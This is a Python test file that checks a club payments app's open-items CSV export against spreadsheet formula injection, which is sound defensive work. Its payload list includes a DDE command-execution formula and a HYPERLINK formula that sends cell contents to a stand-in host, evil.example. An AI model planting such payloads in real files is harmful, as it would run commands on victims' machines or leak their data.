"""The open-items export opens in a spreadsheet as plain text: no family's name runs as a formula,
whether the spreadsheet splits cells on commas, semicolons or tabs."""

from __future__ import annotations

import csv
import io
import re

import pytest

from paylinks.club.office import OpenItemLine, open_items_csv
from paylinks.vocabulary import PaymentLinkStatus

# OWASP's CSV-injection examples, and the ways a cell may hide one after a separator.
HOSTILE = [
    "Kit;=2+2;@x",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Smith,=1+1",
    "Smith\t@SUM(1)",
    "O'Brien; -2+3",
    "=1+1;=2+2,+3+3\t@4",
]
FORMULA = re.compile(r"^[=+\-@\t\r]")


def line(name: str) -> OpenItemLine:
    return OpenItemLine(
        row_id=1,
        player_id=1,
        player_name=name,
        team=name,
        parent_name=name,
        parent_email="parent@example.com",
        product=name,
        description=name,
        amount_cents=-1250,
        status=PaymentLinkStatus.pending,
        url="https://pay.example/1",
    )


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_club_data_starts_a_formula(name: str, separator: str) -> None:
    text = open_items_csv([line(name)], "usd")
    header, row = list(csv.reader(io.StringIO(text)))
    for column, cell in zip(header, row, strict=True):
        if column == "amount":
            assert cell == "-12.50"  # our own number, left summable
            continue
        # However the spreadsheet splits the cell, no piece of it starts like a formula.
        for piece in cell.split(separator):
            assert not FORMULA.match(piece.lstrip(" ")), (column, cell)


def test_the_text_a_person_wrote_is_all_still_there() -> None:
    text = open_items_csv([line("Kit;=2+2;@x")], "usd")
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row[0] == "Kit;'=2+2;'@x"


def test_every_cell_is_quoted() -> None:
    text = open_items_csv([line("Ana")], "usd")
    for record in text.strip().split("\r\n"):
        assert record.startswith('"') and record.endswith('"')
        assert record.count('","') == len(next(csv.reader(io.StringIO(record)))) - 1
